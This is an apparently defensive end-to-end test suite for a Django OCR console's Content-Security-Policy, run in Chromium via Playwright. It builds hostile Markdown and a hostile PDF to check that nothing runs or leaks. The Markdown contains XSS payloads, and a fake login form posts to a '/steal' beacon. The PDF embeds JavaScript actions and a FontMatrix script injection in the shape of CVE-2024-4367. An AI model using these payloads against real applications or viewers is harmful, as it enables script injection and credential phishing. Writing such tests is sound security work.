"""The Content-Security-Policy in a real browser (Debian's chromium driven by Playwright; issue 38,
N3 and N9): every page of the console works under it with no violation (the dashboard live over
its websocket, the job page's viewer drawing a PDF and rendering Markdown, the new-job form's
forecast, a confirm before cancelling, the admin), and a hostile vlm Markdown page and a hostile
PDF do nothing: no script runs, nothing is fetched from or sent to another origin.

"Another origin" is a server of the test's own on another port of 127.0.0.1, which counts every
request it gets. One browser for the module."""

from __future__ import annotations

import io
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pikepdf
import pytest
from playwright.sync_api import sync_playwright

from ocrjobs.models import Page
from tests.e2e.conftest import CHROMIUM, LAUNCH_ARGS
from tests.e2e.test_browser import closing_its_connections
from tests.e2e.test_viewer_browser import read_every_page, session_context, vlm_page
from tests.factories import PAGES_TRUTH, image_bytes, pdf_bytes
from tests.ocrjobs.helpers import split, submit
from tools.processes import child_env, start_front

pytestmark = [pytest.mark.e2e, pytest.mark.once_sqlite]  # the browser, not the database

SHORT_MS = 30_000
# Playwright evaluates a wait_for_function expression with eval, which the page refuses: functions only.
# Every violation the page sees, and its console's lines that report one (a worker's too).
WATCH_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.violations.push(`${e.violatedDirective} ${e.blockedURI}`);
});
"""


@pytest.fixture(scope="module")
def browser():
    # Playwright's sync API keeps an event loop on this thread from here to the module's end, so
    # Django would refuse every ORM call after it (the tests', their fixtures'): allowed for the
    # module, and kept from the children (front, below).
    with pytest.MonkeyPatch.context() as patch, sync_playwright() as playwright:
        patch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=LAUNCH_ARGS)
        yield browser
        browser.close()


class Elsewhere:
    """A server on another origin that counts what reaches it: a beacon, a form post, a fetch."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _any

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere():
    server = Elsewhere()
    yield server
    server.close()


class Watched:
    """A page whose CSP violations, console errors, script errors and requests to another origin
    are kept."""

    def __init__(self, context, origin: str) -> None:
        context.add_init_script(WATCH_VIOLATIONS)
        self.page = context.new_page()
        self.console: list[str] = []
        self.errors: list[str] = []
        self.foreign: list[str] = []
        self.page.on("console", lambda m: m.type in ("error", "warning") and self.console.append(m.text))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("dialog", lambda dialog: dialog.accept())

        def request(req) -> None:
            if not (req.url.startswith(origin) or req.url.startswith(("data:", "blob:"))):
                self.foreign.append(req.url)

        self.page.on("request", request)

    def violations(self) -> list[str]:
        return self.page.evaluate("window.violations")

    def assert_clean(self, *, sanitizer_parsed: tuple[str, ...] = ()) -> None:
        """No violation, script error or request elsewhere. ``sanitizer_parsed``: the console lines
        that may start so, which Chromium logs when DOMPurify parses hostile HTML in an inert
        document of the page's (the policy refuses its handler and style there too; nothing of it
        is shown, and no violation reaches the page's own document)."""
        refused = [line for line in self.console if "Content Security Policy" in line or "Refused" in line]
        refused = [line for line in refused if not line.startswith(sanitizer_parsed)]
        assert (self.violations(), refused, self.errors, self.foreign) == ([], [], [], [])


# --- the console's own pages ----------------------------------------------------------------------


@pytest.fixture
def front(browser, transactional_db, tmp_path) -> str:
    """daphne alone on the test database: the dashboard's websocket needs the real front."""
    env = child_env(tmp_path)
    env.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
    process, url = start_front(env, tmp_path)
    yield url
    process.stop()
    print(f"--- daphne ---\n{process.tail()}")


@closing_its_connections
def test_every_console_page_works_under_the_policy_with_no_violation(front, browser, admin_user, local_pool,
                                                                     tmp_path):  # fmt: skip
    read = submit(admin_user, {"report.pdf": pdf_bytes(PAGES_TRUTH[:1])})
    split(read)
    read_every_page(read)
    table = submit(admin_user, {"table.png": image_bytes(["Pumps 4"])})
    split(table)
    vlm_page(table, "# Pumps\n\n| Pump | Count |\n|---|---|\n| A | **4** |\n")
    waiting = submit(admin_user, {"later.png": image_bytes(["Later"])})
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.set_default_timeout(SHORT_MS)
    watched = Watched(context, front)
    page = watched.page

    # Logging in: a form post to our own origin (form-action 'self').
    page.goto(f"{front}/")
    page.fill("#id_username", "alice")
    page.fill("#id_password", "alice-pass-1")
    page.click("main button[type=submit]")

    # The dashboard: the websocket opens (connect-src 'self' covers ws: on the same host) and
    # pushes; the meters take their widths from data-width, htmx added no style of its own.
    page.wait_for_function("() => document.body.dataset.live === 'on'")
    stamp = page.inner_text("#dash-live")
    page.wait_for_function(f"() => document.querySelector('#dash-live').innerText !== {stamp!r}")
    assert page.locator("style").count() == 0
    for span in page.locator("[data-width]").all():
        assert span.evaluate("e => e.style.width") == f"{span.get_attribute('data-width')}%"
    # The fallback poll is cancelled while the websocket is open (its filter moved to dashboard.js).
    polls: list[str] = []
    page.on("request", lambda req: "/dashboard/sections" in req.url and polls.append(req.url))
    poll = "htmx.ajax('GET', '/dashboard/sections', {source: '#dash-poll', swap: 'none'})"
    page.evaluate(poll)
    assert polls == []
    page.evaluate(f"document.body.dataset.live = 'off'; {poll}")
    assert polls  # sent (the poll's own timer may add one)
    page.evaluate("document.body.dataset.live = 'on'")

    # The job page: pdf.js draws the page (its worker and WebAssembly decoders), the Markdown is rendered.
    # The worker runs under its own response's policy (fleetadmin/staticpolicy.py): eval refused there too.
    pdf_page = Page.objects.get(document__job=read)
    with page.expect_response(lambda answer: "pdf.worker" in answer.url) as worker:
        page.goto(f"{front}/jobs/{read.pk}")
    worker_policy = worker.value.headers["content-security-policy"]
    assert "script-src 'self' 'wasm-unsafe-eval';" in worker_policy and "'unsafe-eval'" not in worker_policy
    page.wait_for_selector(f"#viewer-page-{pdf_page.pk}[data-drawn='true']")
    assert page.locator(f"#viewer-page-{pdf_page.pk} .box").count() == 3
    assert page.locator(".progress [data-width]").evaluate("e => e.style.width") == "100%"
    page.goto(f"{front}/jobs/{table.pk}")
    page.wait_for_selector(".markdown.rendered table")
    assert page.locator(".markdown.rendered td strong").inner_text() == "4"

    # A job not finished: its progress polls, and cancelling asks first (data-confirm, no onsubmit).
    page.goto(f"{front}/jobs/{waiting.pk}")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    with page.expect_navigation():  # the post, then the job page it redirects to
        page.click("text=Cancel job")
    assert dialogs == [f"Cancel job {waiting.pk}?"]
    waiting.refresh_from_db()
    assert waiting.status == "cancelled"

    # The new-job form: choosing a file posts it to the forecast (htmx), which answers in place.
    page.goto(f"{front}/jobs/new")
    upload = tmp_path / "one.pdf"
    upload.write_bytes(pdf_bytes(PAGES_TRUTH[:1]))
    page.set_input_files("#id_files", str(upload))
    page.wait_for_selector("#forecast h2")
    assert "1 page." in page.inner_text("#forecast")
    # Submitting posts the form to our own origin (form-action 'self'), which answers with the job.
    page.click("main form button[type=submit]")
    page.wait_for_url(re.compile(rf"{front}/jobs/\d+$"))
    assert page.locator("h1").inner_text().startswith("Job ")

    for path in ("/jobs/", "/admin/", "/admin/pods/pool/", f"/admin/pods/pool/{local_pool.pk}/change/"):
        page.goto(f"{front}{path}")
        page.wait_for_load_state("load")
    watched.assert_clean()

    # The watch sees a violation when there is one: an image from another origin is refused.
    page.evaluate("new Image().src = 'http://127.0.0.1:9/beacon.png'")
    page.wait_for_function("() => window.violations.length > 0")
    assert page.evaluate("window.violations") == ["img-src http://127.0.0.1:9/beacon.png"]
    context.close()


# --- hostile documents --------------------------------------------------------------------------


def hostile_markdown(beacon: str) -> str:
    return "\n\n".join([
        "# Pumps",
        "| Pump | Count |\n|---|---|\n| A | *4* |",
        "Serviced [in March](https://example.org/march) and [not this](javascript:window.ran=true).",
        f"![beacon]({beacon}/markdown-image)",
        f'<img src="{beacon}/img"><img src="x" onerror="window.ran = true">',
        "<script>window.ran = true</script>",
        f'<form action="{beacon}/steal" method="post"><p>Your session expired.</p>'
        '<input type="password" name="password"><button>Log in</button></form>',
        f"<style>body {{ background: url({beacon}/style-element) }}</style>",
        f'<p style="background: url({beacon}/style-attribute)" data-x="1" class="messages" id="pages">Styled</p>',
        f'<iframe src="{beacon}/frame"></iframe><object data="{beacon}/object"></object>',
        f'<link rel="stylesheet" href="{beacon}/link"><meta http-equiv="refresh" content="0;url={beacon}/refresh">',
        f'<svg><image href="{beacon}/svg-image"/><script>window.ran = true</script></svg>',
        f'<a href="{beacon}/click" data-id="1">a link</a>',
    ])  # fmt: skip


def hostile_pdf_bytes(beacon: str) -> bytes:
    """A PDF that tries to run script: JavaScript when opened and when its page opens, a font whose
    FontMatrix carries script (CVE-2024-4367's shape) and a PostScript function, which pdf.js
    before 5 compiled with ``new Function``; a link to another origin."""
    pdf = pikepdf.open(io.BytesIO(pdf_bytes(PAGES_TRUTH[:1])))
    run = f"window.ran = true; app.launchURL('{beacon}/js', true); this.submitForm('{beacon}/submit');"
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(run)))
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(run)))
    function = pikepdf.Stream(pdf, b"{ dup dup }")
    function.FunctionType, function.Domain, function.Range = 4, [0, 1], [0, 1, 0, 1, 0, 1]
    shading = pikepdf.Dictionary(ShadingType=2, ColorSpace=pikepdf.Name.DeviceRGB, Coords=[0, 0, 300, 0],
                                 Function=pdf.make_indirect(function))  # fmt: skip
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica,
                              FontMatrix=[0.001, 0, 0, 0.001, 0, pikepdf.String("0); window.ran = true; (0")])  # fmt: skip
    resources = page.obj.Resources
    resources.Shading = pikepdf.Dictionary(Sh0=pdf.make_indirect(shading))
    resources.Font = pikepdf.Dictionary(F0=pdf.make_indirect(font))
    page.contents_add(pdf.make_stream(b"q 0 0 300 40 re W n /Sh0 sh Q BT /F0 24 Tf 20 60 Td (Hostile) Tj ET"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 300, 100],
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"{beacon}/uri")))  # fmt: skip
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@closing_its_connections
def test_a_hostile_markdown_page_and_a_hostile_pdf_do_nothing(front, client, ordinary_user, local_pool, browser,
                                                               elsewhere):  # fmt: skip
    markdown_job = submit(ordinary_user, {"table.png": image_bytes(["Pumps 4"])})
    split(markdown_job)
    vlm_page(markdown_job, hostile_markdown(elsewhere.url))
    pdf_job = submit(ordinary_user, {"hostile.pdf": hostile_pdf_bytes(elsewhere.url)})
    split(pdf_job)
    read_every_page(pdf_job)
    client.force_login(ordinary_user)
    context = session_context(browser, client, front)
    watched = Watched(context, front)
    page = watched.page

    page.goto(f"{front}/jobs/{markdown_job.pk}")
    rendered = page.locator(".markdown.rendered")
    rendered.wait_for()
    # What a Markdown page may show is kept: the heading, the table, emphasis, a safe link.
    assert rendered.locator("h1").inner_text() == "Pumps"
    assert rendered.locator("table td em").inner_text() == "4"
    safe = rendered.locator("a[href='https://example.org/march']")
    # Nothing else is: no script, image, form, input, button, style, frame, object, link, meta, svg,
    # no style, class, id, data or handler attribute, no javascript: link.
    dropped = "script, img, form, input, button, style, iframe, object, link, meta, svg, image"
    assert rendered.locator(dropped).count() == 0
    attributes = rendered.evaluate("e => [...e.querySelectorAll('*')].flatMap(n => n.getAttributeNames())")
    assert set(attributes) <= {"href", "rel", "target", "align"}, attributes
    assert rendered.locator("a[href^='javascript']").count() == 0
    assert "Your session expired." in rendered.inner_text()  # the text stays, as text
    assert safe.get_attribute("rel") == "noopener noreferrer nofollow"

    # The hostile PDF is drawn; none of its script runs, its font and function compile nothing.
    pdf_page = Page.objects.get(document__job=pdf_job)
    page.goto(f"{front}/jobs/{pdf_job.pk}")
    page.wait_for_selector(f"#viewer-page-{pdf_page.pk}[data-drawn='true']")
    assert page.locator(f"#viewer-page-{pdf_page.pk} .box").count() >= 1

    assert page.evaluate("window.ran === undefined")
    watched.assert_clean(sanitizer_parsed=("Executing inline event handler", "Applying inline style"))
    context.close()
    assert elsewhere.hits == []
